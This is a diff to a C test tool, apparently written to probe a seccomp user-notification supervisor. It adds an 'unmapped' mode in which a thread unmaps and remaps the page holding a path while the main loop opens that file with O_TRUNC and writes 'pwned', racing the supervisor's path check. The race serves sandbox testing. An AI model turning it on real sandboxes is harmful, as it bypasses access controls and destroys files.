@@ -9,6 +9,11 @@
  *   notify-attack exchange A B    renameat2(A, B, RENAME_EXCHANGE)
  *   notify-attack chroot DIR NAME unshare(CLONE_NEWUSER|CLONE_NEWNS),
  *                                 chroot(DIR), open /NAME O_WRONLY|O_TRUNC
+ *   notify-attack unmapped FILE ITER
+ *                                 opens FILE with O_TRUNC from a page
+ *                                 another thread unmaps and maps again, so
+ *                                 that the supervisor's read can fail where
+ *                                 the kernel's would not
  *   notify-attack race DIR N ITER victims DIR/v0..v<N-1> (existing) and a
  *                                 harmless DIR/h: for each victim, ITER
  *                                 opens with O_TRUNC and truncates of a path
@@ -29,6 +34,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -93,6 +99,51 @@ static int attack_chroot(const char *dir, const char *name)
 	snprintf(path, sizeof(path), "/%s", name);
 	report("open-chrooted", open(path, O_WRONLY | O_TRUNC | O_CLOEXEC));
 	report("truncate-chrooted", truncate(path, 0));
+	return 0;
+}
+
+/* ---- unmapped path memory ---- */
+
+static char *page;
+static const char *unmapped_file;
+static atomic_int unmap_stop;
+
+static void *unmapper(void *arg)
+{
+	(void)arg;
+	while (!atomic_load(&unmap_stop)) {
+		munmap(page, 4096);
+		sched_yield();
+		if (mmap(page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
+			 -1, 0) == page)
+			snprintf(page, 4096, "%s", unmapped_file);
+		sched_yield();
+	}
+	return NULL;
+}
+
+static int attack_unmapped(const char *file, long iter)
+{
+	pthread_t th;
+	long k;
+	int fd;
+
+	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (page == MAP_FAILED)
+		return report("mmap", -1), 1;
+	unmapped_file = file;
+	snprintf(page, 4096, "%s", file);
+	pthread_create(&th, NULL, unmapper, NULL);
+	for (k = 0; k < iter; k++) {
+		fd = (int)syscall(SYS_openat, AT_FDCWD, page, O_WRONLY | O_TRUNC | O_CLOEXEC);
+		if (fd >= 0) {
+			(void)!write(fd, "pwned\n", 6);
+			close(fd);
+		}
+	}
+	atomic_store(&unmap_stop, 1);
+	pthread_join(th, NULL);
+	printf("unmapped done\n");
 	return 0;
 }
 
@@ -184,9 +235,11 @@ int main(int argc, char **argv)
 		       0;
 	if (argc == 4 && strcmp(argv[1], "chroot") == 0)
 		return attack_chroot(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "unmapped") == 0)
+		return attack_unmapped(argv[2], atol(argv[3]));
 	if (argc == 5 && strcmp(argv[1], "race") == 0)
 		return attack_race(argv[2], atoi(argv[3]), atol(argv[4]));
 	fprintf(stderr, "usage: notify-attack openat2 FILE | exchange A B | chroot DIR NAME | "
-			"race DIR N ITER\n");
+			"unmapped FILE ITER | race DIR N ITER\n");
 	return 2;
 }
